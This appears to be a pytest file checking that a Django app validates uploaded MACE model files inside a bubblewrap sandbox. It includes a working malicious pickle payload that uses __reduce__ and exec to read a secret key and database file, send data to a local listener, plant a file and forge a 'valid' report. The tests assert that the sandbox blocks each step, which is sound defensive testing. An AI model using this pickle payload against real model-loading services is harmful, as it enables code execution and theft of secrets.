"""Model files are opened only inside bubblewrap, converted to a pickle-free file and verified.

Issue 10 finding 2: a pickle validated by the old rlimit-only child read WORKDIR/secret_key and
the database, could reach the network, and reported itself valid through its stdout.
"""

import json
import pickle
import socket
import threading

import pytest
from ase.build import bulk
from django.conf import settings

from models_app import sandbox
from models_app.loaders import ModelLoadError, build_calculator
from models_app.mace_format import FormatError, config_from_json, load_model
from models_app.validation import validate_model_file
from tests.mace_model import write_tiny_mace

# Database-independent: CI's PostgreSQL pass skips these (the embedded pass runs them; tests/conftest.py).
pytestmark = pytest.mark.db_independent
needs_bwrap = pytest.mark.skipif(sandbox.bwrap_path() is None, reason="bubblewrap (bwrap) is not installed")

EVIL = """
import json, os, pathlib, socket, sys
found = {}
for target in sys.argv[1:-2]:
    try:
        found[target] = pathlib.Path(target).read_bytes()[:20].hex()
    except Exception as exc:
        found[target] = "denied: " + type(exc).__name__
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[-2])), timeout=2).sendall(b"leak")
    found["net"] = "connected"
except Exception as exc:
    found["net"] = "denied: " + type(exc).__name__
try:
    pathlib.Path(sys.argv[-1]).write_text(json.dumps(found))
    found["outside"] = "written"
except Exception as exc:
    found["outside"] = "denied: " + type(exc).__name__
found["env"] = sorted(name for name in os.environ if name in {"SECRET_KEY", "DATABASE_URL", "AWS_SECRET_ACCESS_KEY"})
out = pathlib.Path("/sandbox/out")
(out / "found.json").write_text(json.dumps(found))
claim = {"ok": True, "reference": {"energy": 0, "forces": [[0, 0, 0]] * 3, "stress": [0] * 6}}
(out / "report.json").write_text(json.dumps(claim))
print(json.dumps({"ok": True, "message": "totally valid"}), flush=True)
os._exit(0)
"""


class Evil:
    """Unpickling this runs EVIL with the targets to steal, a port to call and a file to plant."""

    def __init__(self, *argv):
        self.argv = argv

    def __reduce__(self):
        return (exec, (f"import sys; sys.argv = {['x', *self.argv]!r}\n" + EVIL,))


def _listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(20)
    got = []

    def accept():
        try:
            conn, _ = server.accept()
            got.append(conn.recv(10))
        except OSError:
            pass

    threading.Thread(target=accept, daemon=True).start()
    return server, got


@needs_bwrap
def test_it_keeps_a_malicious_pickle_from_secrets_network_and_workdir(tmp_path):
    secret = settings.WORKDIR / "secret_key"
    settings.WORKDIR.mkdir(parents=True, exist_ok=True)
    if not secret.exists():
        secret.write_text("test-secret")
    database = settings.WORKDIR / "db.sqlite3"
    database.touch()
    planted = settings.WORKDIR / "planted.json"
    planted.unlink(missing_ok=True)
    server, got = _listener()
    path = tmp_path / "evil.model"
    path.write_bytes(pickle.dumps(Evil(str(secret), str(database), str(server.getsockname()[1]), str(planted))))

    verdict = validate_model_file("mace", path)

    server.close()
    assert not verdict.ok
    assert "no converted model" in verdict.message  # its report.json claims ok: not trusted
    assert not planted.exists(), "the sandbox wrote outside its output directory"
    assert got == [], "the sandbox reached the network"


@needs_bwrap
def test_it_denies_the_pickle_every_read_the_network_and_writes_outside(tmp_path, monkeypatch):
    """The same payload run by the sandbox directly, so its findings can be read back; the
    platform's secrets are in this process's environment (as on a production worker)."""
    for name in ("SECRET_KEY", "DATABASE_URL", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, f"not-for-the-sandbox-{name}")
    secret, planted = settings.WORKDIR / "secret_key", settings.WORKDIR / "planted.json"
    path = tmp_path / "evil.model"
    path.write_bytes(pickle.dumps(Evil(str(secret), str(settings.WORKDIR / "db.sqlite3"), "9", str(planted))))
    out = tmp_path / "out"
    out.mkdir()
    sandbox.run_child(path, out, ["mace", "{in}", "{out}", "float64"], sandbox.Limits(wall_s=120))
    found = json.loads((out / "found.json").read_text())
    assert found.pop("env") == [], "the sandbox saw the platform's secrets in its environment"
    assert len(found) == 4 and all(value.startswith("denied") for value in found.values()), found


@needs_bwrap
def test_it_converts_a_genuine_mace_model_and_runs_it_without_pickle(tmp_path):
    path = write_tiny_mace(tmp_path / "tiny.model")
    verdict = validate_model_file("mace", path)
    try:
        assert verdict.ok, verdict.message
        assert verdict.converted.suffix == ".safetensors"
        assert b"\x80\x02" not in verdict.converted.read_bytes()[:2]  # not a pickle stream
        atoms = bulk("Cu", "fcc", a=3.6, cubic=True)
        atoms.calc = build_calculator({"family": "mace", "model_path": str(verdict.converted)}, "cpu")
        converted = atoms.get_potential_energy()
        import torch
        from mace.calculators import MACECalculator

        original = torch.load(path, weights_only=False)  # the test's own file
        atoms.calc = MACECalculator(models=original, device="cpu", default_dtype="float64")
        assert converted == pytest.approx(atoms.get_potential_energy(), abs=1e-8)
    finally:
        verdict.discard()


def test_it_refuses_families_without_a_converter(tmp_path):
    path = tmp_path / "x.pth"
    path.write_bytes(b"not read")
    verdict = validate_model_file("sevennet", path)
    assert not verdict.ok and "refused" in verdict.message


def test_it_refuses_without_bwrap_unless_the_unsafe_setting_is_on(tmp_path, monkeypatch, settings):
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    path = write_tiny_mace(tmp_path / "tiny.model")
    settings.MODEL_SANDBOX_UNSAFE = False
    verdict = validate_model_file("mace", path)
    assert not verdict.ok and "bubblewrap" in verdict.message
    settings.MODEL_SANDBOX_UNSAFE = True  # a trusted dev box: same conversion, no sandbox
    verdict = validate_model_file("mace", path)
    assert verdict.ok, verdict.message
    verdict.discard()


def test_it_loads_pickled_mace_files_nowhere_but_the_sandbox(tmp_path):
    path = write_tiny_mace(tmp_path / "tiny.model")
    with pytest.raises(ModelLoadError, match="not a converted MACE model"):
        build_calculator({"family": "mace", "model_path": str(path)}, "cpu")


def test_a_config_cannot_name_arbitrary_callables_or_sizes():
    block = "RealAgnosticResidualInteractionBlock"
    base = {"model_class": "ScaleShiftMACE", "gate": "silu", "num_interactions": 1, "max_ell": 1,
            "num_bessel": 4, "num_polynomial_cutoff": 3, "num_elements": 1,
            "interaction_cls": block, "interaction_cls_first": block,
            "readout_cls": "NonLinearReadoutBlock"}  # fmt: skip
    for bad in ({"interaction_cls": "os.system"}, {"gate": "eval"}, {"model_class": "Module"},
                {"num_interactions": 10**6}, {"extra": 1}):  # fmt: skip
        with pytest.raises(FormatError):
            config_from_json({**base, **bad})


def test_load_model_refuses_files_without_the_header(tmp_path):
    import torch
    from safetensors.torch import save_file

    save_file({"w": torch.zeros(2)}, str(tmp_path / "plain.safetensors"))
    with pytest.raises(FormatError, match="no mofsim header"):
        load_model(tmp_path / "plain.safetensors")
